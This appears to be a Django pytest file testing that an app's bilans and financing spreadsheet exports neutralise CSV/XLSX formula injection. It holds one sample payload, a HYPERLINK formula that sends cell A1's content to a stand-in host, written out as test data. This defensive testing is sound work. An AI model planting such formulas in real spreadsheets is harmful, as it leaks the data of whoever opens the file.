"""No exported cell runs as a formula (issue 18): a text typed « =HYPERLINK(…) » arrives as
text in the staff CSV and XLSX of the bilans and in the financing table's XLSX."""

import io
import zipfile

import pytest

from iscg.spreadsheets import csv_safe
from tests.factories import BilanFactory, OrganisationFactory, PostFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Poste ISC Béthune", "Poste ISC Béthune"),
        ("Aide à l'insertion", "Aide à l'insertion"),
    ],
)
def test_csv_cells_starting_like_a_formula_are_neutralised(value, written):
    assert csv_safe(value) == written


def _sheets_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.fixture
def coordinator():
    organisation = OrganisationFactory(slug="dept-formules")
    post = PostFactory(organisation=organisation, name=PAYLOAD)
    BilanFactory(post=post, validated=True)
    return UserFactory(coordinateur=True, organisation=organisation)


def test_bilans_csv_writes_the_payload_as_text(client, coordinator):
    client.force_login(coordinator)
    text = client.get("/bilans/2022/tableau.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert ";=HYPERLINK(" not in text and '";=HYPERLINK' not in text


def test_bilans_xlsx_holds_no_formula(client, coordinator):
    client.force_login(coordinator)
    content = client.get("/bilans/2022/tableau.xlsx").content
    xml = _sheets_xml(content)
    assert "<f>" not in xml and "<x:f>" not in xml
    from openpyxl import load_workbook

    cells = [
        cell
        for row in load_workbook(io.BytesIO(content))["Postes 2022"].iter_rows()
        for cell in row
        if cell.value == PAYLOAD
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_financing_xlsx_holds_no_formula():
    from openpyxl import Workbook

    from iscg.spreadsheets import xlsx_texts_as_text

    workbook = Workbook()
    workbook.active.append(["=1+1", 2, "texte"])
    xlsx_texts_as_text(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert "<f>" not in _sheets_xml(buffer.getvalue())
